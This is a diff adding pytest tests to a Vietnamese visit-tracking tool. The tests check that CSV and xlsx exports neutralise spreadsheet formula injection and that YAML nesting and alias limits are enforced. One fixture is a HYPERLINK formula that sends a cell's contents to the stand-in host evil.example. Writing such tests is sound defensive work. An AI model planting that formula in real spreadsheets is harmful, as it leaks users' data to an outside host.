@@ -436,3 +436,79 @@ def test_a_csv_row_with_more_or_fewer_fields_than_its_header_is_refused(
             "header has 5: a comma or semicolon inside a cell that is not quoted?") in run.stderr, run.stderr
     assert not (cwd / "data" / "visits" / "2024" / "2024-09-17.yaml").exists()
     assert not (cwd / "data" / "visits" / "2024" / "2024-09-18.yaml").exists()
+
+
+# --- spreadsheets (item 2) ------------------------------------------------------------------
+
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_csv_cells_that_would_start_a_formula_are_made_inert(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    cwd = office(tmp_path)
+    day = cwd / "data" / "visits" / "2024" / "2024-09-16.yaml"
+    day.write_text(VISIT.replace("Làm việc với Đảng ủy xã", "'" + FORMULA_NOTE.replace(
+        "'", "''") + "'").replace("kind: working", "kind: working\n  difficulties:\n"
+                                  "  - \"+84 thiếu vốn\"\n  - \"@SUM(1)\""), encoding="utf-8")
+    (cwd / "data" / "cadres.csv").write_text(
+        "id,name,title,agency,phone,email\nCB01,-Hà Thị Ngần,Tổng biên tập,Báo Bắc Kạn,,\n"
+        "CB02,Nông Văn Bình,Giám đốc,Sở Tài chính,,\nCB03,Đàm Thị Hoa,Phó Giám đốc,Sở Tài chính,,\n"
+        "CB04,Lý Văn Đức,Trưởng ban,Ban Dân vận Tỉnh ủy,,\n", encoding="utf-8")
+    listed = theodoi("visit", "list", "--format", "csv", "--data", "data", cwd=cwd)
+    assert listed.returncode == 0, listed.stderr
+    [row] = list(csv.DictReader(io.StringIO(listed.stdout)))
+    assert row["notes"] == "'" + FORMULA_NOTE
+    assert row["difficulties"] == "'+84 thiếu vốn\n@SUM(1)"  # the cell starts with "+"
+    assert row["cadre_name"] == "'-Hà Thị Ngần"
+    coverage = theodoi("coverage", "--by", "cadre", "--from", "2024-09-01", "--to", "2024-09-30",
+                       "--format", "csv", "--data", "data", cwd=cwd)
+    rows = list(csv.DictReader(io.StringIO(coverage.stdout)))
+    assert "'-Hà Thị Ngần" in [r["cadre_name"] for r in rows]
+    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
+    # xlsx keeps writing strings: the same text, never a formula.
+    import openpyxl
+
+    made = theodoi("visit", "list", "--format", "xlsx", "--output", "visits.xlsx", "--data",
+                   "data", cwd=cwd)
+    assert made.returncode == 0, made.stderr
+    sheet = openpyxl.load_workbook(cwd / "visits.xlsx").active
+    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value == FORMULA_NOTE]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    # A cell of such a CSV imported again gives back the note as typed.
+    (cwd / "again.csv").write_text(
+        "Date,Commune,Cadre,Kind,Notes\n2024-09-18,dai sao,,field survey,"
+        + '"' + row["notes"].replace('"', '""') + '"\n', encoding="utf-8")
+    again = theodoi("import", "visits", "again.csv", "--data", "data", cwd=cwd)
+    assert again.returncode == 0, again.stderr
+    import yaml
+
+    [visit] = yaml.safe_load((cwd / "data" / "visits" / "2024" / "2024-09-18.yaml").read_text(
+        encoding="utf-8"))
+    assert visit["notes"] == FORMULA_NOTE
+
+
+@pytest.mark.parametrize(("text", "check"), [
+    ("".join(f"{'  ' * n}k{n}:\n" for n in range(70)) + "  " * 70 + "x\n", "yaml-too-deep"),
+    ("- " * 70 + "x\n", "yaml-too-deep"),
+    ("a: " + "{b: " * 70 + "1" + "}" * 70 + "\n", "yaml-too-deep"),
+    ("a: &a x\nb: [" + ", ".join(["*a"] * 1001) + "]\n", "yaml-aliases"),
+])
+def test_every_way_past_the_yaml_limits_is_caught(text: str, check: str) -> None:
+    from theodoi.problems import TheodoiError
+    from theodoi.yamlio import compose
+
+    with pytest.raises(TheodoiError) as raised:
+        compose(text, "f.yaml")
+    assert raised.value.check.code == check
+
+
+@pytest.mark.parametrize("text", [
+    "".join(f"{'  ' * n}k{n}:\n" for n in range(60)) + "  " * 60 + "x\n",
+    "a: &a x\nb: [" + ", ".join(["*a"] * 1000) + "]\n",
+    "- difficulties: []\n  proposals: []\n" * 100])
+def test_texts_within_the_yaml_limits_are_read(text: str) -> None:
+    from theodoi.yamlio import compose
+
+    assert compose(text, "f.yaml") is not None
